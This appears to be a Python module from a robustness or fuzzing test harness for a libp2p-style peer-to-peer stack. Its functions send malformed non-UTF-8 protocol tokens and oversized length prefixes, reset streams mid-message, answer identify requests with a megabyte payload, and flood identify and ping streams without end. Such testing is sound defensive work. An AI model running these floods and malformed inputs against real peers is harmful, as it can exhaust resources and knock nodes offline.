"""Attacks on negotiation and on what handlers do."""

from __future__ import annotations

from contextlib import suppress

from wire import DATA, SYN, VERSION, Broken, Refused, accept, message, token
from wire.bits import varint

from .target import FAILED, Target

NONSENSE = (
    b"\x02\xff\n",  # a token that is not UTF-8
    VERSION + b"\x02\xff\n",
    VERSION + token(b"\xc3\x28" * 20),
    b"\xff\xff\xff\xff\xff\xff\xff\xff\x7f" + bytes(1000),
    VERSION + token("ls") * 100,
    VERSION + b"\x00",
)
NOT_TEXT = b"\xff\xfe\x00 this is no text"


def tokens(target: Target) -> None:
    """Protocol names that are not UTF-8, or that are no names at all: on the line, inside Noise, on a stream."""

    def one(number: int) -> None:
        for sent in NONSENSE:
            line = target.line(number)
            line.write(sent)
            line.close()
            session = target.session(number)
            session.secure.line.patience(0.5)
            with suppress(*FAILED):
                session.frame(DATA, SYN, 1, body=sent)
                stream = session.raw_stream(3)
                stream.write(sent)
                target.on()
                while stream.read_some():
                    pass
            session.close()

    target.keep_on(one)


def escaping(target: Target) -> None:
    """What a handler does not expect: no text, half a message and gone, a reset in the middle."""

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(0.5)
        with suppress(*FAILED):
            for protocol in ("/shout/1", target.protocol, target.deaf):
                stream = session.raw_stream()
                stream.write(VERSION + token(protocol) + NOT_TEXT)
                if number % 3 == 1:
                    stream.reset()
                elif number % 3 == 2:
                    stream.close()
            while session.streams:
                session.pump()
        session.close()

    target.keep_on(one)


def identify_answers(target: Target) -> None:
    """It is asked what it is, and answers with a megabyte of tiny protocol names; and again, as somebody else."""
    answer = message(*((3, b"p%x" % number) for number in range(1 << 17)))[: 1 << 20]
    answer = varint(len(answer)) + answer
    target.saw["asked"] = 0

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(0.5)
        with suppress(*FAILED):
            stream = session.next_incoming()
            accept(stream, "/ipfs/id/1.0.0")
            target.count("asked")
            stream.write(answer)
            stream.close()
            with suppress(Broken):
                stream.read(1)
        session.close()

    target.keep_on(one, pause=0.05)


def identify_questions(target: Target) -> None:
    """It asks what the victim is, without end and on many streams at once."""

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(1.0)
        with suppress(*FAILED):
            for _ in range(50):
                streams = [session.raw_stream() for _ in range(4)]
                for stream in streams:
                    stream.write(VERSION + token("/ipfs/id/1.0.0"))
                for stream in streams:
                    while stream.read_some():
                        pass
                    stream.close()
                target.count("answers", 4)
        session.close()

    target.keep_on(one)


def libp2p_pings(target: Target) -> None:
    """`/ipfs/ping/1.0.0` without end, on as many streams as it is given; or asked for again and again, where it is not served."""
    ping = bytes(32)

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(2.0)
        try:
            streams = [session.open("/ipfs/ping/1.0.0") for _ in range(3)]
        except Refused:
            target.count("refused")
            session.close()
            return
        target.on()
        while target.going():
            for stream in streams:
                stream.write(ping * 500)
            for stream in streams:
                stream.read(16_000)
                target.count("pings", 500)

    target.keep_on(one)
